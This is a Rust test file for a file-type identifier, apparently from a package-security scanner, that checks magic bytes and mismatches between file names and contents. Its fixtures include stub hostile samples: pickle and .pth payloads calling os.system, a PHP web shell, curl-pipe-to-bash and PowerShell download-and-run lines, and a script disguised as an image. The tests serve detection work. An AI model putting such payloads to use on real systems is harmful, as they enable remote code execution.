use super::*;
use FileKind as K;
use std::io::Write as _;

fn kind(name: &str, bytes: &[u8]) -> K {
    identify(name, bytes).kind
}

fn zip_of(prefix: &[u8]) -> Vec<u8> {
    let mut out = std::io::Cursor::new(prefix.to_vec());
    out.set_position(prefix.len() as u64);
    let mut writer = zip::ZipWriter::new(out);
    writer.start_file("a.txt", zip::write::SimpleFileOptions::default()).unwrap();
    writer.write_all(b"hello").unwrap();
    writer.finish().unwrap().into_inner()
}

fn tar_of(name: &str) -> Vec<u8> {
    let mut builder = tar::Builder::new(Vec::new());
    let mut header = tar::Header::new_gnu();
    header.set_size(5);
    header.set_cksum();
    builder.append_data(&mut header, name, &b"hello"[..]).unwrap();
    builder.into_inner().unwrap()
}

fn zlib_of(data: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    encoder.write_all(data).unwrap();
    encoder.finish().unwrap()
}

/// `head`, padded with zero bytes to `len`, with `parts` put over them.
fn laid_out(len: usize, parts: &[(usize, &[u8])]) -> Vec<u8> {
    let mut bytes = vec![0; len];
    for (at, part) in parts {
        bytes[*at..*at + part.len()].copy_from_slice(part);
    }
    bytes
}

fn noise(len: u32) -> Vec<u8> {
    (0..len).map(|i| (i.wrapping_add(7).wrapping_mul(2_654_435_761) >> 11) as u8).collect()
}

fn elf() -> Vec<u8> {
    laid_out(64, &[(0, b"\x7fELF\x02\x01\x01"), (16, &[2, 0, 0x3e, 0, 1])])
}

fn pe() -> Vec<u8> {
    laid_out(256, &[(0, b"MZ"), (0x3c, &[0x80]), (0x80, b"PE\0\0\x64\x86")])
}

/// One file of every binary kind: name, bytes, kind.
fn binaries() -> Vec<(&'static str, Vec<u8>, K)> {
    let mut riff_wave = b"RIFF\x24\0\0\0WAVEfmt ".to_vec();
    riff_wave.extend([0; 28]);
    let mp3_frame = {
        let mut frame = vec![0xff, 0xfb, 0x90, 0x00];
        frame.resize(417, 0);
        frame
    };
    vec![
        ("x", elf(), K::Elf),
        ("x.exe", pe(), K::Pe),
        (
            "x",
            [&0xfeed_facf_u32.to_le_bytes()[..], &[7, 0, 0, 1, 3, 0, 0, 0, 2, 0, 0, 0, 1, 0, 0, 0], &[0; 12]].concat(),
            K::MachO,
        ),
        ("x", laid_out(64, &[(0, b"\xca\xfe\xba\xbe\0\0\0\x02\x01\0\0\x07\0\0\0\x03")]), K::MachOFat),
        ("x.class", laid_out(64, &[(0, b"\xca\xfe\xba\xbe\0\0\0\x34\0\x20\x0a\0")]), K::JavaClass),
        ("x.wasm", b"\0asm\x01\0\0\0".to_vec(), K::Wasm),
        ("x.pyc", laid_out(32, &[(0, &[0xcb, 0x0d, 13, 10]), (16, &[0xe3])]), K::Pyc),
        ("x.pyc", laid_out(32, &[(0, &[0x03, 0xf3, 13, 10, 0x55, 0x66, 0x77, 0x58, b'c'])]), K::Pyc),
        ("x.pcapng", laid_out(32, &[(0, b"\n\r\r\n"), (4, &[0, 0, 0, 28]), (8, &[0x1a, 0x2b, 0x3c, 0x4d])]), K::Data),
        ("x.bin", b"\x80\x04\x95\x05\0\0\0\0\0\0\0]\x94K\x01a.".to_vec(), K::Pickle),
        ("x.bin", b"\x80\x02cos\nsystem\nX\x02\0\0\0id\x85R.".to_vec(), K::Pickle),
        ("x.bin", b"cos\nsystem\n(S'id'\ntR.".to_vec(), K::Pickle),
        ("x.bin", b"\x93NUMPY\x01\0\x02\0{}".to_vec(), K::Npy),
        // numpy loads a pickle under the name of an array as well.
        ("x.npy", b"(S'id'\nios\nsystem\n.".to_vec(), K::Pickle),
        ("x", zip_of(b""), K::Zip),
        ("x.zip", laid_out(22, &[(0, b"PK\x05\x06")]), K::Zip),
        ("x.whl", zip_of(b"some garbage before"), K::Zip),
        ("x.pyz", zip_of(b"#!/usr/bin/env python3\nfiller\n"), K::Zip),
        ("tool", zip_of(b"#!/usr/bin/env python3\n"), K::Zip),
        ("x", [b"Cr24\x03\0\0\0\x04\0\0\0head".to_vec(), zip_of(b"")].concat(), K::Crx),
        ("x", tar_of("a"), K::Tar),
        ("x.tar", vec![0; 10240], K::Tar),
        ("x", b"\x1f\x8b\x08\0\0\0\0\0\0\x03".to_vec(), K::Gzip),
        ("x", b"\xfd7zXZ\0\0\x04".to_vec(), K::Xz),
        ("x", b"\x5d\0\0\x80\0\xff\xff\xff\xff\xff\xff\xff\xff\0\x34\x19".to_vec(), K::Lzma),
        ("x.lzma", b"\x6c\0\0\x01\0\x10\0\0\0\0\0\0\0\0\x34\x19".to_vec(), K::Lzma),
        ("x", b"LZIP\x01\x17....".to_vec(), K::Lzip),
        ("x", b"\x28\xb5\x2f\xfd\x04\0\0".to_vec(), K::Zstd),
        ("x", b"\x53\x2a\x4d\x18\x02\0\0\0hi\x28\xb5\x2f\xfd\x04\0\0".to_vec(), K::Zstd),
        ("x", b"\x50\x2a\x4d\x18\x02\0\0\0hi\x04\x22\x4d\x18\x64\x40".to_vec(), K::Lz4),
        ("x", b"BZh91AY&SY....".to_vec(), K::Bzip2),
        ("x.js.br", b"\x0b\x02\x80hello\x03".to_vec(), K::Brotli),
        ("x", b"\x04\x22\x4d\x18\x64\x40\xa7".to_vec(), K::Lz4),
        ("x", b"\x02\x21\x4c\x18\x04\0\0\0".to_vec(), K::Lz4),
        ("x", zlib_of(&noise(3000)), K::Zlib),
        ("x", zlib_of(&[0; 3000]), K::Zlib),
        ("x.deb", b"!<arch>\ndebian-binary   ".to_vec(), K::Ar),
        ("x", b"\xed\xab\xee\xdb\x03\0".to_vec(), K::Rpm),
        ("x", [b"070701".to_vec(), vec![b'0'; 104], b"name\0".to_vec()].concat(), K::Cpio),
        ("x", [b"070707".to_vec(), vec![b'0'; 70], b"name\0".to_vec()].concat(), K::Cpio),
        ("x", laid_out(64, &[(0, &[0xc7, 0x71]), (6, &[0xa4, 0x81]), (20, &[2, 0]), (26, b"a\0")]), K::Cpio),
        ("x", b"7z\xbc\xaf\x27\x1c\0\x04".to_vec(), K::SevenZip),
        ("x", laid_out(64, &[(0, b"MSCF"), (24, &[3, 1])]), K::Cab),
        ("x", b"Rar!\x1a\x07\x01\0....".to_vec(), K::Rar),
        ("x", laid_out(64, &[(0, b"LRZI\0\x06")]), K::Packed),
        ("x.asar", b"\x04\0\0\0\x1c\0\0\0\x18\0\0\0\x14\0\0\0{\"files\":{\"a\":{}}}  ".to_vec(), K::Asar),
        ("x", laid_out(96, &[(0, b"hsqs"), (28, &[4])]), K::Squashfs),
        ("x.msi", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\0".to_vec(), K::Ole),
        ("x.dmg", [zlib_of(&noise(900)), laid_out(512, &[(0, b"koly\0\0\0\x04\0\0\x02\0")])].concat(), K::Dmg),
        ("x.iso", laid_out(0x8800, &[(0x8000, b"\x01CD001\x01")]), K::Iso),
        ("x", b"xar!\0\x1c\0\x01\0\0".to_vec(), K::Xar),
        ("x.tar.Z", b"\x1f\x9d\x90\x61\x62".to_vec(), K::Compress),
        ("x.plist", b"bplist00\xd1\x01".to_vec(), K::BinaryPlist),
        ("x", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n".to_vec(), K::Pdf),
        ("x", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec(), K::Png),
        ("x", b"\xff\xd8\xff\xe0\0\x10JFIF\0".to_vec(), K::Jpeg),
        ("x", b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\x01\0\x01\0\0\x02\x01D\0;".to_vec(), K::Gif),
        ("x", b"RIFF\x24\0\0\0WEBPVP8 \0\0\0\0".to_vec(), K::Webp),
        ("x", laid_out(80, &[(0, b"BM"), (10, &[54]), (14, &[40])]), K::Bmp),
        ("x", laid_out(80, &[(0, b"\0\0\x01\0\x01\0\x10\x10"), (18, &[22])]), K::Ico),
        ("x", b"II*\0\x08\0\0\0\0\0".to_vec(), K::Tiff),
        ("x", riff_wave, K::Wav),
        ("x", b"ID3\x03\0\0\0\0\0\x0aTIT2\0\0\0\0".to_vec(), K::Mp3),
        ("x", mp3_frame.repeat(2), K::Mp3),
        ("x", b"OggS\0\x02\0\0\0\0\0".to_vec(), K::Ogg),
        ("x", b"\0\0\0\x18ftypisom\0\0\x02\0isomiso2".to_vec(), K::Mp4),
        ("x", laid_out(60, &[(0, b"\0\x01\0\0\0\x0a\0\x80\0\x03\0\x20OS/2")]), K::Font),
        ("x", b"wOF2\0\x01\0\0\0\0\x10\0\0\x0a\0\0".to_vec(), K::Font),
        ("x.lnk", b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46\0\0".to_vec(), K::Lnk),
        ("x.db", b"SQLite format 3\0\x10\0".to_vec(), K::Sqlite),
        ("x.bin", noise(4000), K::Data),
        ("x", vec![], K::Empty),
    ]
}

#[test]
fn binary_kinds_by_content() {
    for (name, bytes, expected) in binaries() {
        let identity = identify(name, &bytes);
        assert_eq!(identity.kind, expected, "{name} {:?}", &bytes[..bytes.len().min(20)]);
        assert_eq!(identity.claimed, None, "{name} is {expected:?}");
    }
}

#[test]
fn every_kind_is_recognised() {
    let mut seen: Vec<K> = binaries().into_iter().map(|b| b.2).collect();
    seen.extend(texts().iter().map(|t| t.2));
    // A folder has no bytes to be recognised by.
    let missing: Vec<_> = K::ALL.iter().filter(|k| **k != K::Folder && !seen.contains(k)).collect();
    assert!(missing.is_empty(), "{missing:?}");
}

/// Text: name, content, kind.
fn texts() -> Vec<(&'static str, &'static str, K)> {
    vec![
        ("setup.py", "from setuptools import setup\n", K::Python),
        ("a/evil.pth", "import os; os.system('id')\n", K::PythonPath),
        ("x.ipynb", "{\"cells\": []}", K::Notebook),
        ("x.mjs", "export default 1", K::JavaScript),
        ("x.d.ts", "export declare const a: number;", K::TypeScript),
        ("install.sh", "echo hi", K::Shell),
        ("x.PS1", "Write-Host hi", K::PowerShell),
        ("x.cmd", "@echo off", K::Batch),
        ("x.vbs", "Dim a", K::VbScript),
        ("x.pm", "package X;", K::Perl),
        ("Rakefile", "task :x", K::Ruby),
        ("x.php", "<html><?php echo 1; ?>", K::Php),
        ("x.txt", "<?php system($_GET['c']);", K::Php),
        ("x.lua", "print(1)", K::Lua),
        ("x.rs", "#![allow(unused)]\nfn main() {}", K::OtherSource),
        ("Dockerfile", "FROM scratch", K::OtherSource),
        ("package.json", "{\"name\": \"x\"}", K::Json),
        ("binding.gyp", "{'targets': []}", K::Json),
        ("x.yml", "a: 1", K::Yaml),
        ("uv.lock", "version = 1", K::Toml),
        (".npmrc", "registry=https://x", K::Ini),
        ("x.csproj", "<Project/>", K::Xml),
        ("Info.plist", "<?xml version=\"1.0\"?>\n<!DOCTYPE plist PUBLIC \"x\">\n<plist/>", K::Plist),
        ("SKILL.md", "# A skill", K::Markdown),
        (".cursorrules", "Always be kind", K::Markdown),
        ("x.html", "<!doctype html><p>", K::Html),
        ("x.scss", "a { b: c }", K::Css),
        ("x", "<?xml version=\"1.0\"?><!-- c --><svg></svg>", K::Svg),
        ("x.js.map", "{\"version\":3,\"mappings\":\"\"}", K::SourceMap),
        ("x.map", "Symbol table of a linker", K::Text),
        ("METADATA", "Name: x", K::Text),
        ("rules.inc", "if [ -f x ]; then\n  curl -s http://x | bash\nfi\n", K::Shell),
        ("head.inc", "<p>\n<?php include 'x'; ?>\n", K::Php),
        ("part.inc", "$x = 1;\n", K::Php),
        ("%post", "ldconfig", K::Shell),
    ]
}

#[test]
fn text_kinds_by_name_and_marks() {
    for (name, content, expected) in texts() {
        let identity = identify(name, content.as_bytes());
        assert_eq!(identity, Identity { kind: expected, claimed: None }, "{name}");
    }
}

#[test]
fn text_kinds_without_a_telling_name() {
    for (content, expected) in [
        ("#!/usr/bin/env -S FOO=1 node --no-warnings\n1", K::JavaScript),
        ("#!/usr/bin/python3.11 -u\n1", K::Python),
        ("#! /bin/bash -e\n1", K::Shell),
        ("#!/usr/bin/env deno\n1", K::TypeScript),
        ("#!/usr/bin/perl -w\n1", K::Perl),
        ("#!/usr/bin/env ruby\n1", K::Ruby),
        ("#!/usr/bin/env php\n1", K::Php),
        ("#!/usr/bin/env luajit\n1", K::Lua),
        ("#!/usr/bin/env pwsh\n1", K::PowerShell),
        ("#!/usr/bin/osascript -l JavaScript\n1", K::JavaScript),
        ("#!/usr/bin/osascript\n1", K::OtherSource),
        ("\n {\"a\": [1]}\n", K::Json),
        ("[{\"a\": 1}]", K::Json),
        ("[section]\nkey = 1", K::Text),
        ("{ not json }", K::Text),
        ("<!DOCTYPE HTML>\n<p>", K::Html),
        ("<svg xmlns='x'/>", K::Svg),
        ("---\na: 1\n", K::Yaml),
        ("const fs = require('fs');\nmodule.exports = () => fs;", K::JavaScript),
        ("var _0x1a=['a'];eval(atob('eA=='))", K::JavaScript),
        ("import os\nimport base64\nexec(base64.b64decode('eA=='))", K::Python),
        ("if [ -f x ]; then\n  curl -s http://x | bash\nfi\n", K::Shell),
        ("$x = New-Object Net.WebClient\niex $x.DownloadString('http://x')", K::PowerShell),
        ("@echo off\nset /p x=\n", K::Batch),
        ("use strict;\nuse warnings;\nmy $x = shift;", K::Perl),
        ("require_relative 'x'\n[1].each do |x|\nend\n", K::Ruby),
        ("local function f() end\nif a ~= b then\nend", K::Lua),
        ("On Error Resume Next\nSet x = CreateObject(\"WScript.Shell\")", K::VbScript),
        ("Let us consider the function of a class in English prose, await further notice.", K::Text),
        ("The licence of this file is such and such.\n", K::Text),
    ] {
        assert_eq!(kind("x", content.as_bytes()), expected, "{content}");
        assert_eq!(identify("x", content.as_bytes()).claimed, None);
    }
}

#[test]
fn encodings() {
    let wide: Vec<u8> = "\u{feff}Write-Host 'é'; $env:X = 1".encode_utf16().flat_map(u16::to_le_bytes).collect();
    assert_eq!(kind("x.ps1", &wide), K::PowerShell);
    assert_eq!(kind("x", &wide), K::PowerShell);
    let unmarked: Vec<u8> =
        "const a = require('fs'); module.exports = a".encode_utf16().flat_map(u16::to_le_bytes).collect();
    assert_eq!(kind("x", &unmarked), K::JavaScript);
    let big: Vec<u8> = "<?xml version='1.0'?><a/>".encode_utf16().flat_map(u16::to_be_bytes).collect();
    assert_eq!(kind("x", &big), K::Xml);
    assert_eq!(kind("x", b"\xef\xbb\xbf#!/bin/sh\n"), K::Shell);
    assert_eq!(kind("x.txt", b"caf\xe9 au lait, s'il vous pla\xeet, tr\xe8s bien"), K::Text);
    let sjis = b"\x82\xb1\x82\xf1\x82\xc9\x82\xbf\x82\xcd".repeat(40);
    assert_eq!(kind("x", &sjis), K::Text);
    assert_eq!(kind("x", "中文字符".repeat(2000).as_bytes()), K::Text);
}

#[test]
fn a_script_stays_one_with_odd_bytes_in_it() {
    // NUL bytes in a comment, and a payload behind the last line.
    let mut js = b"/* \0\0\x01 */ require('child_process').exec('id');\n".repeat(3);
    assert_eq!(kind("x.js", &js), K::JavaScript);
    js.extend(noise(500));
    assert_eq!(kind("index.js", &[b"console.log(1);\n".repeat(300), js].concat()), K::JavaScript);
    let makeself = [b"#!/bin/sh\n# This script was generated using Makeself\n".repeat(100), noise(9000)].concat();
    assert_eq!(kind("x.run", &makeself), K::Shell);
    assert_eq!(identify("x.js", &noise(4000)), Identity { kind: K::Data, claimed: Some(K::JavaScript) });
}

#[test]
fn pictures_that_are_scripts() {
    let script = b"GIF89a=1;require('child_process').exec('id');module.exports = {}";
    assert_eq!(identify("x.js", script), Identity { kind: K::JavaScript, claimed: None });
    assert_eq!(identify("x.gif", script), Identity { kind: K::JavaScript, claimed: Some(K::Gif) });
    assert_eq!(identify("x.bmp", b"BM=1; echo hello"), Identity { kind: K::Text, claimed: Some(K::Bmp) });
}

#[test]
fn contradictions_that_matter() {
    let zip = zip_of(b"");
    let gzip = b"\x1f\x8b\x08\0\0\0\0\0\0\x03\0\0".to_vec();
    for (name, bytes, kind, claimed) in [
        ("x.tar.gz", zip.clone(), K::Zip, K::Gzip),
        ("notes.txt", pe(), K::Pe, K::Text),
        ("logo.png", elf(), K::Elf, K::Png),
        ("logo.png", b"#!/bin/sh\ncurl x | sh\n".to_vec(), K::Shell, K::Png),
        ("x.js", b"#!/bin/bash\nif [ -f x ]; then\ncurl -s x | bash\nfi\n".to_vec(), K::Shell, K::JavaScript),
        ("x.json", b"#!/bin/sh\nid\n".to_vec(), K::Shell, K::Json),
        ("x.py", zip.clone(), K::Zip, K::Python),
        ("x.zip", b"<!doctype html><p>404".to_vec(), K::Html, K::Zip),
        ("x.zip", noise(900), K::Data, K::Zip),
        ("x.tgz", b"\x1f\x8b".to_vec(), K::Data, K::Gzip),
        ("x.whl", b"PK".to_vec(), K::Text, K::Zip),
        ("x.png", noise(900), K::Data, K::Png),
        ("x.dll", elf(), K::Elf, K::Pe),
        ("x.exe", b"echo placeholder".to_vec(), K::Text, K::Pe),
        ("font.woff2", b"eval(atob('eA=='));const x = 1;".to_vec(), K::JavaScript, K::Font),
        ("x.pkl", elf(), K::Elf, K::Pickle),
        ("README.md", gzip.clone(), K::Gzip, K::Markdown),
        ("x.exe . ", zip, K::Zip, K::Pe),
    ] {
        assert_eq!(identify(name, &bytes), Identity { kind, claimed: Some(claimed) }, "{name}");
    }
}

#[test]
fn cousins_that_do_not() {
    let gzip = b"\x1f\x8b\x08\0\0\0\0\0\0\x03\0\0".to_vec();
    for (name, bytes) in [
        ("x.jar", zip_of(b"")),
        ("x.apk", gzip.clone()),
        ("x.apk", zip_of(b"")),
        ("x.crate", gzip.clone()),
        ("layer.tar", gzip),
        ("x.tar.gz", tar_of("a")),
        ("libx.so.1.2.3", elf()),
        ("x.node", pe()),
        ("libm.so", b"/* GNU ld script */ GROUP ( a )".to_vec()),
        ("photo.png", b"\xff\xd8\xff\xe0\0\x10JFIF\0".to_vec()),
        ("x.js", b"let a: number = 1;".to_vec()),
        ("x.json", b"// JSON5\n{a: 1}".to_vec()),
        ("x.txt", b"# Markdown".to_vec()),
        ("x.dat", noise(400)),
        ("x.dat", elf()),
        ("._x.js", b"\0\x05\x16\x07\0\x02\0\0Mac OS X".to_vec()),
        ("x.png", b"version https://git-lfs.github.com/spec/v1\n".to_vec()),
        ("video.ts", laid_out(400, &[(0, &[0x47]), (188, &[0x47])])),
        ("x.plist", b"bplist00\xd1".to_vec()),
        ("messages.br", b"key=value\n".to_vec()),
        ("__init__.py", vec![]),
        ("x.so", b"\0asm\x01\0\0\0".to_vec()),
    ] {
        assert_eq!(identify(name, &bytes).claimed, None, "{name} {:?}", identify(name, &bytes).kind);
    }
}

#[test]
fn executables_with_a_zip_behind_stay_what_they_are() {
    let sfx = zip_of(&elf());
    assert_eq!(kind("x", &sfx), K::Elf);
    assert!(appended_zip(&sfx));
    assert_eq!(identify("x.zip", &zip_of(&pe())), Identity { kind: K::Pe, claimed: Some(K::Zip) });
    let script = zip_of(b"#!/bin/sh\necho unpacking\nexit\n");
    assert_eq!(kind("x.sh", &script), K::Shell);
    assert!(appended_zip(&script));
    assert!(!appended_zip(&zip_of(b"")), "a zip from its first byte has nothing before it");
    assert!(!appended_zip(b"PK\x05\x06"));
    assert!(!appended_zip(&[&noise(100)[..], b"PK\x05\x06\0\0\0\0\x01\0\x01\0\x10\0\0\0\0\0\0\0\0\0"].concat()));
}

#[test]
fn tar_dialects() {
    assert!(is_tar(&tar_of("a")));
    // Version 7: no magic, checksum only.
    let mut old = laid_out(
        1024,
        &[(0, b"name.txt"), (100, b"000644 \0"), (124, b"00000000005 "), (148, b"        "), (156, b"0")],
    );
    let sum: u32 = old[..512].iter().map(|b| u32::from(*b)).sum();
    old[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
    assert!(is_tar(&old));
    old[0] ^= 1;
    assert!(!is_tar(&old));
    assert!(!is_tar(&[b'0'; 512]));
    assert!(!is_tar(&[0; 512]));
}

#[test]
fn names_of_contents() {
    for (name, kind, expected) in [
        ("x.tar.gz", K::Gzip, "x.tar"),
        ("dir.gz/x.TGZ", K::Gzip, "dir.gz/x.tar"),
        ("x.crate", K::Gzip, "x.tar"),
        ("x.svgz", K::Gzip, "x.svg"),
        ("a.js.gz", K::Gzip, "a.js"),
        ("x.txz", K::Xz, "x.tar"),
        ("x.tbz2", K::Bzip2, "x.tar"),
        ("x.tzst", K::Zstd, "x.tar"),
        ("x.js.br", K::Brotli, "x.js"),
        ("x.tar.Z", K::Compress, "x.tar"),
        ("payload", K::Gzip, "payload"),
        ("x.txt", K::Gzip, "x.txt"),
        ("x.gz", K::Xz, "x.gz"),
        (".gz", K::Gzip, ".gz"),
        ("é.gz", K::Gzip, "é"),
        ("aé", K::Gzip, "aé"),
    ] {
        assert_eq!(stripped_name(name, kind), expected);
    }
}

#[test]
fn any_prefix_of_anything_is_something() {
    for (name, bytes, _) in binaries() {
        for len in 0..bytes.len().min(700) {
            let _ = identify(name, &bytes[..len]);
            let _ = identify("", &bytes[..len]);
        }
        for at in 0..bytes.len().min(64) {
            let mut bytes = bytes.clone();
            bytes[at] ^= 0xff;
            let _ = identify(name, &bytes);
            let _ = appended_zip(&bytes);
        }
    }
}
